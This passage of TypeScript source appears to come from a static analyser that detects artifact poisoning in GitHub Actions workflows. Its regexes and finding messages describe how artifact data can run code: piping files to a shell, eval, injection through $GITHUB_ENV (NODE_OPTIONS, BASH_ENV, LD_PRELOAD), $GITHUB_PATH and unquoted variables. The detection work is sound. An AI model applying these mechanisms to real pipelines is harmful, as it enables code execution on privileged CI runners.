    if (alternatives.every((a) => trustAtom(a))) return true;
  }
  return false;
}

type Execution = { level: 'run' | 'unknown'; step: Step; why: string };

function execution(step: Step): Execution | undefined {
  if (step.run) return { level: 'run', step, why: 'a `run:` step' };
  if (!step.uses) return undefined;
  const u = step.uses.value.trim();
  if (u.startsWith('./') || u.startsWith('$/')) return { level: 'run', step, why: `the local action \`${u}\`, loaded from the checked-out tree` };
  const name = actionName(u);
  if (!name) return { level: 'unknown', step, why: `\`${u}\`` };
  if (matchesAny(name, BUILD_ACTIONS)) return { level: 'run', step, why: `\`${u}\`, which builds or runs the project` };
  if (matchesAction(name, 'ruby/setup-ruby') && /^true$/i.test(step.with['bundler-cache']?.value.trim() ?? '')) {
    return { level: 'run', step, why: `\`${u}\` with \`bundler-cache: true\` (runs \`bundle install\`, which evaluates the Gemfile)` };
  }
  if (matchesAction(name, 'pnpm/action-setup') && step.with['run_install'] && !/^false$/i.test(step.with['run_install'].value.trim())) {
    return { level: 'run', step, why: `\`${u}\` with \`run_install\` (runs install scripts)` };
  }
  if (matchesAny(name, INERT_ACTIONS)) return undefined;
  return { level: 'unknown', step, why: `\`${u}\`` };
}

// ---------------------------------------------------------------------------------------------
// Artifact poisoning

/** Where a download's files land. `dir` paths are normalised (see `normPath`). */
type Dest = { kind: 'root' } | { kind: 'dir'; dir: string; raw: string } | { kind: 'unknown'; raw: string };

interface Download {
  step: Step;
  line: number;
  what: string;
  dest: Dest;
}

/** Downloads seen so far in a job, and values read from them. */
interface ArtifactState {
  root?: Download;
  unknown?: Download;
  /** Directory prefix (normalised) → the download whose files are there. */
  dirs: Map<string, Download>;
  /** `<step id>.<output>` (lower case; `<step id>.*` for every output) → the download it was read from. */
  outputs: Map<string, Download>;
}

/** The working directory of a script line: the workspace, a directory with downloaded files, or elsewhere. */
type Cwd = { kind: 'workspace' } | { kind: 'elsewhere' } | { kind: 'tainted'; dl: Download };

/** Unify the spellings of the runner's temp directory and the workspace (`.`). */
function normText(s: string): string {
  if (!s.includes('RUNNER_TEMP') && !s.includes('WORKSPACE') && !/runner\s*\.\s*temp|github\s*\.\s*workspace/i.test(s)) return s;
  return s
    .replace(/\$\{\{\s*(?:runner\s*\.\s*temp|env\s*\.\s*RUNNER_TEMP)\s*\}\}/gi, '$RUNNER_TEMP')
    .replace(/\$\{\{\s*(?:github\s*\.\s*workspace|env\s*\.\s*GITHUB_WORKSPACE)\s*\}\}/gi, '.')
    .replace(/\$\{(?:process\.env\.)?RUNNER_TEMP\}|process\.env\.RUNNER_TEMP/g, '$RUNNER_TEMP')
    .replace(/\$\{(?:process\.env\.)?GITHUB_WORKSPACE\}|\$GITHUB_WORKSPACE\b|process\.env\.GITHUB_WORKSPACE/g, '.');
}

/** A path as written → normalised: quotes and leading `./` dropped, `''` for the workspace root. */
function normPath(raw: string): string {
  let t = normText(raw).replace(/["'`]/g, '').trim().replace(/\/{2,}/g, '/');
  while (t.startsWith('./')) t = t.slice(2);
  if (t === '.') return '';
  return t.length > 1 ? t.replace(/\/+$/, '') : t;
}

function destOf(raw: string | undefined): Dest {
  if (raw === undefined) return { kind: 'root' };
  const first = raw.split('\n').map((l) => l.trim()).find((l) => l !== '') ?? '';
  const t = normPath(first);
  if (t === '') return { kind: 'root' };
  if (t.includes('${{')) return { kind: 'unknown', raw: first };
  return { kind: 'dir', dir: t, raw: first };
}

function addDest(st: ArtifactState, dl: Download, dest: Dest | undefined): void {
  if (!dest) return;
  if (dest.kind === 'root') st.root ??= dl;
  else if (dest.kind === 'unknown') st.unknown ??= dl;
  else if (!st.dirs.has(dest.dir) && st.dirs.size < 64) st.dirs.set(dest.dir, dl);
}

const tainted = (st: ArtifactState): boolean => st.root !== undefined || st.unknown !== undefined || st.dirs.size > 0;

/** A run id that is this run's own (its artifacts were uploaded by this workflow's jobs). */
const OWN_RUN = /^\s*["']?(?:\$\{\{\s*github\s*\.\s*run_id\s*\}\}|\$\{?GITHUB_RUN_ID\}?|context\s*\.\s*runId|process\.env\.GITHUB_RUN_ID)["']?\s*$/i;

/** A step (action) that downloads artifacts of another run. */
function actionDownload(step: Step): Download | undefined {
  if (!step.uses) return undefined;
  const uses = step.uses.value.trim();
  const name = actionName(uses);
  if (!name) return undefined;
  const w = step.with;
  if (matchesAction(name, 'actions/download-artifact')) {
    const runId = w['run-id'];
    if (!runId || runId.value.trim() === '' || OWN_RUN.test(runId.value)) return undefined;
    // `run-id` exists from v4 on; older versions ignore it and download this run's artifacts.
    if (/@v[123](?:\.|$)/i.test(uses)) return undefined;
    return { step, line: step.uses.line, what: `\`${uses}\` with \`run-id: ${runId.value.trim()}\``, dest: destOf(w.path?.value) };
  }
  if (matchesAction(name, 'dawidd6/action-download-artifact')) {
    const key = ['run_id', 'workflow', 'pr', 'commit'].find((k) => w[k] !== undefined && w[k].value.trim() !== '' && !(k === 'run_id' && OWN_RUN.test(w[k].value)));
    if (!key) return undefined;
    return { step, line: step.uses.line, what: `\`${uses}\` with \`${key}: ${w[key].value.trim()}\``, dest: destOf(w.path?.value) };
  }
  if (matchesAction(name, 'actions/github-script') && w.script) {
    const script = w.script.value;
    const m = /\bdownloadArtifact\b/.exec(script);
    if (!m) return undefined;
    const ids = [...script.matchAll(/\brun_id\s*:\s*([^,}\n]+)/g)].map((x) => x[1].trim());
    if (ids.length > 0 && ids.every((id) => OWN_RUN.test(id))) return undefined;
    let nl = 0;
    for (let q = script.indexOf('\n'); q !== -1 && q < m.index; q = script.indexOf('\n', q + 1)) nl++;
    // Where the zip is written: a literal path says so; an expression (`path.join(temp, …)`) is taken
    // to be in the temp directory when the script names it, else in the workspace (the working directory).
    const target = /\bwriteFileSync\s*\(\s*([^,\n]+),/.exec(script)?.[1].trim() ?? '';
    const literal = /^(["'`])[^"'`]*\1$/.test(target) && !/\$\{(?!\{)/.test(target);
    const where = literal ? target : target + (/RUNNER_TEMP|runner\s*\.\s*temp/i.test(script) ? ' RUNNER_TEMP' : /tmpdir\s*\(/.test(script) ? ' tmpdir(' : '');
    const dest: Dest = /RUNNER_TEMP|runner\s*\.\s*temp/i.test(where)
      ? { kind: 'dir', dir: '$RUNNER_TEMP', raw: '${{ runner.temp }}' }
      : /tmpdir\s*\(|^["'`]\/tmp\//.test(where)
        ? { kind: 'dir', dir: '/tmp', raw: '/tmp' }
        : { kind: 'root' };
    return { step, line: scriptLine(w.script, nl), what: '`actions/github-script` calling `downloadArtifact`', dest };
  }
  return undefined;
}

/** `dirs` entry for the path or one of its parent directories. */
function prefixHit(t: string, dirs: ReadonlyMap<string, Download>): Download | undefined {
  if (dirs.size === 0) return undefined;
  const hit = dirs.get(t);
  if (hit) return hit;
  let n = 0;
  for (let i = t.indexOf('/', 1); i > 0 && n < 16; i = t.indexOf('/', i + 1), n++) {
    const h = dirs.get(t.slice(0, i));
    if (h) return h;
  }
  return undefined;
}

const isAbsolute = (t: string): boolean => t.startsWith('/') || t.startsWith('$') || t.startsWith('~');

/** The download a path (as written in a script) points into, if any. */
function tiedPath(token: string, st: ArtifactState, cwd: Cwd): Download | undefined {
  const t = normPath(token);
  if (t === '') return cwd.kind === 'tainted' ? cwd.dl : cwd.kind === 'workspace' ? st.root : undefined;
  if (t.startsWith('-') || t.includes('://') || t.includes('${{')) return undefined;
  const hit = prefixHit(t, st.dirs);
  if (hit) return hit;
  if (isAbsolute(t)) return undefined;
  if (cwd.kind === 'tainted') return cwd.dl;
  return cwd.kind === 'workspace' ? st.root : undefined;
}

interface Seg {
  text: string;
  /** Variables expanded outside quotes (`$X`, `${X}`). */
  vars: string[];
}

/**
 * Split a shell line into simple commands at `;`, `&`, `|`, parentheses, `$(…)` and backticks
 * (command substitutions become their own segments), noting the unquoted variable expansions.
 */
function lex(line: string): Seg[] {
  const segs: Seg[] = [];
  const stack: { q: boolean; close: string }[] = [];
  let inDouble = false;
  let cur = '';
  let vars: string[] = [];
  const flush = (): void => {
    if (cur.trim() !== '') segs.push({ text: cur.trim(), vars });
    cur = '';
    vars = [];
  };
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === '\\') {
      cur += line.slice(i, i + 2);
      i++;
      continue;
    }
    if (!inDouble && c === "'") {
      const e = line.indexOf("'", i + 1);
      const end = e === -1 ? line.length : e + 1;
      cur += line.slice(i, end);
      i = end - 1;
      continue;
    }
    if (c === '"') {
      inDouble = !inDouble;
      cur += c;
      continue;
    }
    if (c === '$' && line[i + 1] === '(' && line[i + 2] !== '(') {
      flush();
      stack.push({ q: inDouble, close: ')' });
      inDouble = false;
      i++;
      continue;
    }
    if (c === '`') {
      flush();
      const top = stack[stack.length - 1];
      if (top && top.close === '`') {
        stack.pop();
        inDouble = top.q;
      } else {
        stack.push({ q: inDouble, close: '`' });
        inDouble = false;
      }
      continue;
    }
    if (inDouble) {
      cur += c;
      continue;
    }
    if (c === '(') {
      flush();
      stack.push({ q: false, close: ')' });
      continue;
    }
    if (c === ')') {
      flush();
      const top = stack.pop();
      if (top) inDouble = top.q;
      continue;
    }
    if (c === ';' || c === '|' || c === '&') {
      flush();
      continue;
    }
    if (c === '$') {
      const m = /^\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))/.exec(line.slice(i, i + 64));
      if (m) vars.push(m[1] ?? m[2]);
    }
    cur += c;
  }
  flush();
  return segs;
}

/** The delimiter of a here-document started on this line (`<<EOF`, `<<-'EOF'`), outside quotes. */
function heredocStart(line: string): { word: string; strip: boolean } | undefined {
  if (!line.includes('<<')) return undefined;
  let quote = '';
  for (let i = 0; i < line.length - 1; i++) {
    const c = line[i];
    if (quote) {
      if (c === '\\' && quote === '"') i++;
      else if (c === quote) quote = '';
      continue;
    }
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === '"' || c === "'") quote = c;
    else if (c === '<' && line[i + 1] === '<' && line[i + 2] !== '<' && line[i - 1] !== '<') {
      const m = /^<<(-?)\s*(?:'([^']+)'|"([^"]+)"|\\?([A-Za-z_][\w-]*))/.exec(line.slice(i, i + 80));
      if (m) return { word: m[2] ?? m[3] ?? m[4], strip: m[1] === '-' };
    }
  }
  return undefined;
}

interface Word {
  /** The word with its quotes removed. */
  w: string;
  /** It started with a single-quoted part (a literal, such as a jq program). */
  literal: boolean;
}

function words(seg: string): Word[] {
  const out: Word[] = [];
  for (const m of seg.matchAll(/(?:'[^']*'?|"(?:[^"\\]|\\.)*"?|[^\s'"])+/g)) out.push({ w: m[0].replace(/["']/g, ''), literal: m[0].startsWith("'") });
  return out;
}

const PREFIX_WORDS: ReadonlySet<string> = new Set(['sudo', 'exec', 'time', 'nohup', 'env', 'command', 'builtin', 'then', 'do', 'else', 'elif', 'if', 'while', 'until', '!', '{', '}', 'xargs']);

/** Index of the command word: leading assignments, `sudo`/`env`/… (with their options) and keywords skipped. */
function commandIndex(ws: readonly Word[]): number {
  let i = 0;
  while (i < ws.length) {
    const w = ws[i].w;
    if (/^[A-Za-z_]\w*(?:\[[^\]]*\])?\+?=/.test(w)) i++;
    else if (PREFIX_WORDS.has(w)) {
      i++;
      while (i < ws.length && ws[i].w.startsWith('-') && w !== 'if' && w !== '!') i++;
    } else break;
  }
  return i;
}

const INTERPRETER = /^(?:bash|sh|zsh|dash|ksh|source|\.|python(?:[23](?:\.\d+)?)?|pypy3?|node|nodejs|deno|tsx|ts-node|ruby|perl|php|pwsh|powershell|Rscript|lua)$/;
const MODULE = Symbol('module');
const INLINE = Symbol('inline');

/** The script file an interpreter runs; MODULE for `python -m`; INLINE for `-c`/`-e` code; undefined for stdin. */
function scriptArg(base: string, args: readonly Word[]): string | typeof MODULE | typeof INLINE | undefined {
  for (const a of args) {
    if (a.w === '-c' || a.w === '-e' || a.w === '-p' || a.w === '--eval' || a.w === '-Command') return INLINE;
    if (a.w === '-m' && base.startsWith('python')) return MODULE;
    if (a.w.startsWith('-')) continue;
    if (base === 'deno' && a.w === 'run') continue;
    return a.w;
  }
  return undefined;
}

/** Tools that run files of the directory they are started in (build files, package scripts, tests). */
function runsProject(base: string, args: readonly Word[]): boolean {
  const sub = args.find((a) => !a.w.startsWith('-'))?.w;
  switch (base) {
    case 'make':
    case 'gmake':
    case 'cmake':
    case 'ninja':
    case 'rake':
    case 'gradle':
    case 'mvn':
    case 'tox':
    case 'nox':
    case 'pytest':
    case 'just':
    case 'npx':
    case 'docker-compose':
      return true;
    case 'npm':
      return sub !== undefined && /^(?:install|i|ci|test|t|run|run-script|start|exec|x|rebuild|pack|publish)$/.test(sub);
    case 'yarn':
      return sub === undefined || !/^(?:--version|-v|info|config|cache|why|help|-h|--help)$/.test(sub);
    case 'pnpm':
      return sub !== undefined && /^(?:install|i|add|run|test|t|exec|start|build|rebuild)$/.test(sub);
    case 'bun':
      return sub !== undefined && /^(?:install|i|run|test|x)$/.test(sub);
    case 'bundle':
      return sub === 'install' || sub === 'exec';
    case 'cargo':
      return sub !== undefined && /^(?:build|run|test|check|bench)$/.test(sub);
    case 'go':
      return sub !== undefined && /^(?:run|build|test|generate|vet)$/.test(sub);
    case 'composer':
      return sub !== undefined && /^(?:install|update|run|run-script)$/.test(sub);
    case 'poetry':
      return sub === 'install' || sub === 'run';
    case 'dotnet':
      return sub !== undefined && /^(?:build|run|test|restore|pack|publish)$/.test(sub);
    case 'docker':
      return sub === 'build' || sub === 'compose' || sub === 'buildx';
    default:
      return false;
  }
}

/** Options naming the project directory or build file of a build tool. */
const DIR_FLAG = /^(?:-C|--directory|--prefix|--cwd|--dir|-f|--file|--makefile|--manifest-path|-p|--project)$/;
const READ_CMDS: ReadonlySet<string> = new Set(['cat', 'head', 'tail', 'jq', 'yq', 'awk', 'sed', 'cut', 'grep', 'base64', 'sort', 'uniq']);
/** Read commands whose first operand is a program or pattern, not a file. */
const PROGRAM_FIRST: ReadonlySet<string> = new Set(['jq', 'yq', 'awk', 'sed', 'grep']);
/** Commands for which an unquoted variable is not an argument-injection risk. */
const SAFE_UNQUOTED: ReadonlySet<string> = new Set(['echo', 'printf', '[[', '[', 'test', ':', 'true', 'false', 'local', 'export', 'declare', 'readonly', 'case', 'return', 'exit', 'let', 'shift', 'unset', 'set', 'for', '((']);
/** Sanitisers on the right-hand side of an assignment: the value is reduced to a number or to digits. */
const SANITISE = /\btonumber\b|\btr\s+-(?:dc|cd)\b|\$\{[A-Za-z_]\w*\/\/\[\^|\$\(\(|\bgrep\s+-\w*o\w*\s+['"]?\^?\[0-9\]/;
/** Validations of a variable in the same script: a regex test, a `case`, a numeric comparison, a `grep` of the value. */
const VALIDATE: readonly RegExp[] = [
  /\[\[\s*"?\$\{?([A-Za-z_]\w*)\}?"?\s*=~/g,
  /\bcase\s+"?\$\{?([A-Za-z_]\w*)/g,
  /\b(?:echo|printf)\s+(?:-[neE]+\s+|'%s\\?n?'\s+|"%s\\?n?"\s+)?"?\$\{?([A-Za-z_]\w*)\}?"?\s*\|\s*grep\s/g,
  /\bgrep\b[^|;&]*<<<\s*"?\$\{?([A-Za-z_]\w*)/g,
  /"?\$\{?([A-Za-z_]\w*)\}?"?\s+-(?:eq|ne|gt|lt|ge|le)\b/g
];
const TO_ENV = /(?:>>?|\btee\b(?:\s+-a)?)\s*"?\$\{?GITHUB_ENV\b/;
const TO_OUTPUT = /(?:>>?|\btee\b(?:\s+-a)?)\s*"?\$\{?GITHUB_OUTPUT\b/;
const TO_PATH = /(?:>>?|\btee\b(?:\s+-a)?)\s*"?\$\{?GITHUB_PATH\b/;
const GH_RUN_DOWNLOAD = /\bgh\s+run\s+download\b(.*)$/;
const OWN_RUN_IN = /\$\{\{\s*github\s*\.\s*run_id\s*\}\}|\$\{?GITHUB_RUN_ID\b/i;
const STEP_OUTPUT_KEY = /\bsteps\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*'([^']+)'\s*\])\s*(?:\.\s*outputs|\[\s*'outputs'\s*\])\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*'([^']+)'\s*\])/gi;

/** A `${{ steps.X.outputs.Y }}` in the text whose value was read from a download. */
function taintedOutputRef(text: string, st: ArtifactState): { ref: string; dl: Download; offset: number } | undefined {
  if (st.outputs.size === 0 || !text.includes('${{')) return undefined;
  EXPRESSION.lastIndex = 0;
  for (let m = EXPRESSION.exec(text); m; m = EXPRESSION.exec(text)) {
    STEP_OUTPUT_KEY.lastIndex = 0;
    for (let o = STEP_OUTPUT_KEY.exec(m[1]); o; o = STEP_OUTPUT_KEY.exec(m[1])) {
      const id = (o[1] ?? o[2]).toLowerCase();
      const dl = st.outputs.get(`${id}.${(o[3] ?? o[4]).toLowerCase()}`) ?? st.outputs.get(`${id}.*`);
      if (dl) return { ref: o[0].replace(/\s+/g, ''), dl, offset: m.index };
    }
  }
  return undefined;
}

interface PoisonHit {
  dl: Download;
  step: Step;
  line: number;
  why: string;
  /** `high` when a downloaded file is executed, `medium` when a value read from one flows into code. */
  confidence: 'high' | 'medium';
}

interface Later {
  dl: Download;
  step: Step;
  line: number;
}

function lineOf(text: string, offset: number): number {
  let nl = 0;
  for (let q = text.indexOf('\n'); q !== -1 && q < offset; q = text.indexOf('\n', q + 1)) nl++;
  return nl;
}

/** Walk one `run:` script line by line: downloads (`gh run download`), taint propagation and executions. */
function scanRun(step: Step, run: { value: string; line: number }, st: ArtifactState, later: { v?: Later }): PoisonHit | undefined {
  const lines = run.value.split('\n');
  const vars = new Map<string, Download>();
  for (const k of Object.keys(step.env)) {
    const t = taintedOutputRef(step.env[k].value, st);
    if (t) vars.set(k, t.dl);
  }
  let cwd: Cwd = { kind: 'workspace' };
  let heredoc: { word: string; strip: boolean } | undefined;
  for (let k = 0; k < lines.length; k++) {
    const raw = lines[k];
    const trimmed = raw.trim();
    const at = scriptLine(run, k);
    const hit = (dl: Download, why: string, confidence: 'high' | 'medium'): PoisonHit => ({ dl, step, line: at, why, confidence });
    // `${{ }}` is substituted everywhere, here-documents and comments included.
    const inj = taintedOutputRef(raw, st);
    if (inj) return hit(inj.dl, `interpolates \`\${{ ${inj.ref} }}\`, read from the artifact without validation, into its \`run:\` script`, 'medium');
    if (heredoc) {
      // A here-document's body is data, not commands.
      if ((heredoc.strip ? raw.replace(/^\t+/, '') : raw) === heredoc.word || trimmed === heredoc.word) heredoc = undefined;
      continue;
    }
    if (trimmed === '' || trimmed.startsWith('#')) continue;
    heredoc = heredocStart(raw);
    const line = normText(raw);
    const gh = GH_RUN_DOWNLOAD.exec(line);
    if (gh && !OWN_RUN_IN.test(gh[1])) {
      const dir = /(?:^|\s)(?:-D|--dir)(?:\s+|=)("[^"]*"|'[^']*'|\S+)/.exec(gh[1])?.[1];
      addDest(st, { step, line: at, what: '`gh run download`', dest: destOf(dir) }, destOf(dir));
      continue;
    }
    if (!tainted(st) && vars.size === 0) continue;
    if (!later.v && (st.root ?? st.unknown)) later.v = { dl: (st.root ?? st.unknown) as Download, step, line: at };

    for (const re of VALIDATE) {
      re.lastIndex = 0;
      for (let m = re.exec(line); m; m = re.exec(line)) vars.delete(m[1]);
    }
    const segs = lex(line);
    // Data read from a downloaded file on this line: `cat F`, `jq … F`, `$(< F)`, `read X < F`.
    let read: Download | undefined;
    for (const seg of segs) {
      const ws = words(seg.text);
      const i = commandIndex(ws);
      if (i >= ws.length || !READ_CMDS.has(ws[i].w)) continue;
      let skip = PROGRAM_FIRST.has(ws[i].w);
      for (const a of ws.slice(i + 1)) {
        if (a.w.startsWith('-')) continue;
        if (skip) {
          skip = false;
          continue;
        }
        read = tiedPath(a.w, st, cwd);
        if (read) break;
      }
      if (read) break;
    }
    if (!read) {
      for (const m of line.matchAll(/(?:^|[\s(])<(?![<(&])\s*("[^"]*"|'[^']*'|[^\s;&|)<>]+)/g)) {
        read = tiedPath(m[1], st, cwd);
        if (read) break;
      }
    }
    let fromVar: Download | undefined;
    if (vars.size > 0) {
      for (const m of line.matchAll(/\$\{?([A-Za-z_]\w*)/g)) {
        fromVar = vars.get(m[1]);
        if (fromVar) break;
      }
    }
    const data = read ?? fromVar;

    if (data && TO_ENV.test(line) && !SANITISE.test(line)) return hit(data, 'writes data read from the artifact to `$GITHUB_ENV`: a newline in the file sets any variable for the later steps (`NODE_OPTIONS`, `BASH_ENV`, `LD_PRELOAD`), which runs code', 'medium');
    if (TO_PATH.test(line)) {
      const d = data ?? segs.flatMap((s) => words(s.text)).map((w) => (/^[\w.$/~-]/.test(w.w) && w.w.includes('/') ? tiedPath(w.w, st, cwd) : undefined)).find((x) => x);
      if (d) return hit(d, 'adds a directory from the artifact to `$GITHUB_PATH`, so later commands run the files in it', 'high');
    }
    if (data && (TO_OUTPUT.test(line) || /::set-output\s+name=/.test(line)) && step.id) {
      const name = /::set-output\s+name=([\w-]+)::/.exec(line)?.[1] ?? /\b(?:echo|printf)\s+(?:-\w+\s+)?["']?([A-Za-z_][\w-]*)=/.exec(line)?.[1];
      const sanitised = name !== undefined && SANITISE.test(line);
      if (!sanitised) st.outputs.set(`${step.id.toLowerCase()}.${name ? name.toLowerCase() : '*'}`, data);
    }
    const asg = /^\s*(?:export\s+|local\s+|declare(?:\s+-\w+)*\s+|readonly\s+)?([A-Za-z_]\w*)=(.*)$/.exec(line);
    if (asg) {
      if (data && !SANITISE.test(asg[2])) vars.set(asg[1], data);
      else vars.delete(asg[1]);
    }

    for (const seg of segs) {
      const ws = words(seg.text);
      const i = commandIndex(ws);
      if (i >= ws.length) continue;
      const cmd = ws[i].w;
      const base = cmd.startsWith('/') ? cmd.slice(cmd.lastIndexOf('/') + 1) : cmd;
      const args = ws.slice(i + 1);
      if (base === 'cd' || base === 'pushd') {
        const target = args.find((a) => !a.w.startsWith('-'))?.w;
        if (target === undefined || target === '~' || target === '-') cwd = { kind: target === '-' ? 'workspace' : 'elsewhere' };
        else {
          const t = normPath(target);
          const d: Download | undefined = t === '' ? undefined : tiedPath(t, st, cwd);
          if (t === '' || t === '..') cwd = { kind: 'workspace' };
          else if (d) cwd = { kind: 'tainted', dl: d };
          else if (isAbsolute(t)) cwd = { kind: 'elsewhere' };
        }
        continue;
      }
      if (base === 'popd') {
        cwd = { kind: 'workspace' };
        continue;
      }
      if (base === 'read' && data) {
        for (const a of args) if (/^[A-Za-z_]\w*$/.test(a.w)) vars.set(a.w, data);
        continue;
      }
      if (INTERPRETER.test(base)) {
        const f = scriptArg(base, args);
        if (f === INLINE) {
          if (data) return hit(data, `passes data read from the artifact to \`${base}\` as inline code`, 'medium');
        } else if (f === MODULE) {
          const d = tiedPath('.', st, cwd);
          if (d) return hit(d, `runs \`${trimmed.slice(0, 120)}\`, which imports modules from a directory the artifact was extracted into`, 'high');
        } else if (f !== undefined) {
          const d = tiedPath(f, st, cwd);
          if (d) return hit(d, `runs \`${f}\` with \`${base}\``, 'high');
        }
      } else if (cmd.includes('/') && !cmd.startsWith('/')) {
        const d = tiedPath(cmd, st, cwd);
        if (d) return hit(d, `runs \`${cmd}\``, 'high');
      }
      if (runsProject(base, args)) {
        let d = tiedPath('.', st, cwd);
        // Only explicit project-directory / build-file options tie other arguments (`make -C dir`, `npm --prefix dir`).
        for (let j = 0; !d && st.dirs.size > 0 && j < args.length; j++) {
          const eq = /^(--[\w-]+)=(.+)$/.exec(args[j].w);
          const operand = eq ? (DIR_FLAG.test(eq[1]) ? eq[2] : undefined) : DIR_FLAG.test(args[j].w) ? args[j + 1]?.w : undefined;
          if (operand !== undefined) d = prefixHit(normPath(operand), st.dirs);
        }
        if (d) return hit(d, `runs \`${ws.slice(i, i + 3).map((w) => w.w).join(' ')}\`, which executes build files, package scripts or tests from a directory the artifact was extracted into`, 'high');
      }
      if (/^pip[\d.]*$/.test(base) && args[0]?.w === 'install') {
        for (let j = 1; j < args.length; j++) {
          const a = args[j].w;
          const operand = /^(?:-r|--requirement|-e|--editable|-c|--constraint)$/.test(args[j - 1].w) || a === '.' || (a.includes('/') && !a.startsWith('-'));
          const d = operand ? tiedPath(a, st, cwd) : undefined;
          if (d) return hit(d, `runs \`pip install\` of \`${a}\` from the artifact (package build scripts run on install)`, 'high');
        }
      }
      if (base === 'eval') {
        const d = data ?? args.map((a) => (a.w.includes('/') ? tiedPath(a.w, st, cwd) : undefined)).find((x) => x);
        if (d) return hit(d, '`eval`s data read from the artifact', 'medium');
      }
      if (base === 'unzip' || base === 'tar' || base === '7z') {
        let dir: string | undefined;
        let archive: string | undefined;
        for (let j = 0; j < args.length; j++) {
          const a = args[j].w;
          if (a === '-d' || a === '-C' || a === '--directory' || (base === '7z' && a.startsWith('-o'))) {
            dir = base === '7z' ? a.slice(2) : args[j + 1]?.w;
            j++;
          } else if (base === 'tar' && (/^-?[A-Za-z]*f$/.test(a) || a === '--file')) {
            archive = args[j + 1]?.w;
            j++;
          } else if (a.startsWith('-') || (base === '7z' && j === 0) || (base === 'tar' && j === 0 && /^[A-Za-z]+$/.test(a))) continue;
          else archive ??= a;
        }
        const d = archive !== undefined ? tiedPath(archive, st, cwd) : undefined;
        if (d) addDest(st, d, dir !== undefined ? destOf(dir) : cwd.kind === 'workspace' ? { kind: 'root' } : undefined);
      }
      if (base === 'cp' || base === 'mv' || base === 'rsync') {
        const ops = args.filter((a) => !a.w.startsWith('-'));
        if (ops.length >= 2) {
          const d = ops.slice(0, -1).map((a) => tiedPath(a.w, st, cwd)).find((x) => x);
          if (d) addDest(st, d, cwd.kind === 'workspace' || isAbsolute(normPath(ops[ops.length - 1].w)) ? destOf(ops[ops.length - 1].w) : undefined);
        }
      }
      if (!SAFE_UNQUOTED.has(base) && seg.vars.length > 0 && vars.size > 0) {
        const rest = ws.slice(i).map((w) => w.w).join(' ');
        const v = seg.vars.find((x) => vars.has(x) && new RegExp(`\\$\\{?${x}\\b`).test(rest));
        if (v) return hit(vars.get(v) as Download, `passes \`$${v}\`, read from the artifact, unquoted to \`${cmd}\` (word splitting lets the file inject arguments${i === ws.length - 1 || cmd.startsWith('$') ? ' or the command itself' : ''})`, 'medium');
      }
    }
    if (read && (/\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b\s*(?:-\w+\s*)*(?:$|[;&|)])/.test(line) || /(?:^|[\s;&|])(?:source|\.|bash|sh)\s+<\(/.test(line))) {
      return hit(read, 'feeds a file from the artifact to a shell', 'high');
    }
    if (read && /(?:^|[;&|]\s*|\b(?:then|do)\s+)\$\(\s*(?:<|cat\b)/.test(trimmed)) return hit(read, 'runs the contents of a file from the artifact as a command', 'high');
  }
  return undefined;
}

/** After a download: does this step run its files, or read them into code? Also propagates taint. */
function poisonedUse(step: Step, st: ArtifactState, later: { v?: Later }): PoisonHit | undefined {
  if (step.run) return scanRun(step, step.run, st, later);
  if (!tainted(st) || !step.uses) return undefined;
  const u = step.uses.value.trim();
  const at = step.uses.line;
  if (u.startsWith('./')) {
    const d = tiedPath(u, st, { kind: 'workspace' });
    if (d) return { dl: d, step, line: at, why: `runs the local action \`${u}\`, loaded from a directory the artifact was extracted into`, confidence: 'high' };
  }
  const name = actionName(u);
  if (name && st.root && matchesAny(name, BUILD_ACTIONS)) return { dl: st.root, step, line: at, why: `uses \`${u}\`, which builds or runs the project in the workspace the artifact was extracted into`, confidence: 'high' };
  if (name && matchesAction(name, 'actions/github-script') && step.with.script) {
    const script = step.with.script;
    const inj = taintedOutputRef(script.value, st);
    if (inj) return { dl: inj.dl, step, line: scriptLine(script, lineOf(script.value, inj.offset)), why: `interpolates \`\${{ ${inj.ref} }}\`, read from the artifact without validation, into the \`script:\` of \`actions/github-script\``, confidence: 'medium' };
    const text = normText(script.value);
    for (const m of text.matchAll(/\b(?:require|import)\s*\(\s*[`'"]([^`'"]+)[`'"]/g)) {
      const d = tiedPath(m[1], st, { kind: 'workspace' });
      if (d && (m[1].includes('/') || m[1].startsWith('.'))) return { dl: d, step, line: scriptLine(script, lineOf(text, m.index)), why: `loads \`${m[1]}\` from the artifact as code in \`actions/github-script\``, confidence: 'high' };
    }
  }
  if (!later.v && (st.root ?? st.unknown) && execution(step) && !actionDownload(step)) later.v = { dl: (st.root ?? st.unknown) as Download, step, line: at };
  return undefined;
}

/** `if:` conditions that admit only runs started by people with write access. */
const TRUSTED_RUN_GUARD = /github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*event\s*==\s*'(?:push|schedule|workflow_dispatch|merge_group|release)'|'(?:push|schedule|workflow_dispatch|merge_group|release)'\s*==\s*github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*event\b/i;

function trustedRunGuard(cond: string | undefined): boolean {
  return cond !== undefined && !cond.includes('||') && TRUSTED_RUN_GUARD.test(cond);
}

function describeDest(d: Dest): string {
  if (d.kind === 'root') return 'the workspace root';
  if (d.kind === 'dir') return `\`${d.raw}\``;
  return `\`${d.raw}\`, a path pm-action cannot resolve`;
}

function artifactFindings(wf: WorkflowFile, job: Job, privileged: string, out: FindingDraft[]): void {
  if (job.uses || job.steps.length === 0 || guarded(job.if?.value) || trustedRunGuard(job.if?.value)) return;
  const st: ArtifactState = { dirs: new Map(), outputs: new Map() };
  const later: { v?: Later } = {};
  let hit: PoisonHit | undefined;
  for (const step of job.steps) {
    if (tainted(st) || (step.run !== undefined && /\bgh\s+run\s+download\b/.test(step.run.value))) {
      hit = poisonedUse(step, st, later);
      if (hit) break;
    }
    const dl = actionDownload(step);
    if (dl && !guarded(step.if?.value) && !trustedRunGuard(step.if?.value)) addDest(st, dl, dl.dest);
  }
  const intro = (dl: Download): string =>
    `Job \`${job.id}\` of \`${wf.path}\` runs on ${privileged} and downloads the artifacts of another workflow run in ${stepLabel(dl.step)} (${dl.what}) into ${describeDest(dl.dest)}. ` +
    'Artifacts uploaded by a pull request\'s run are written by whoever opened the pull request (their workflow run can upload any file)';
  if (hit) {
    const evidence: Evidence[] = [{ path: wf.path, line: hit.dl.line }];
